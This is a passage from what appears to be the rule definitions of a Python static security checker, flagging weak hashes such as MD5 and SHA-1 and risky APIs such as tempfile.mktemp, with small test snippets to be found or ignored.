        found=_py("import hashlib\nhashlib.md5(b'x')", "import hashlib\nhashlib.new('sha1', b'x')"),
        ignored=_py("import hashlib\nhashlib.sha256(b'x')", "import hashlib\nhashlib.new('sha256', b'x')"),
        tags=("CWE-327",),
    ),
    Rule(
        "weak-practice",
        "Weak practice",
        Family.PRACTICE,
        ThreatLevel.LOW,
        "{name} is known for making programs attackable.",
        (
            When(
                Kind.WEAK,
                names=(
                    "tempfile.mktemp",
                    "markupsafe.Markup",
                    "django.*",
                    "logging.config.listen",
                ),
            ),
        ),
        found=_py("import tempfile\ntempfile.mktemp()", "from markupsafe import Markup\nMarkup(text)"),
        ignored=_py("import tempfile\ntempfile.mkstemp()", "from string import Template\nTemplate('hi')"),
        tags=("CWE-377",),
    ),
)
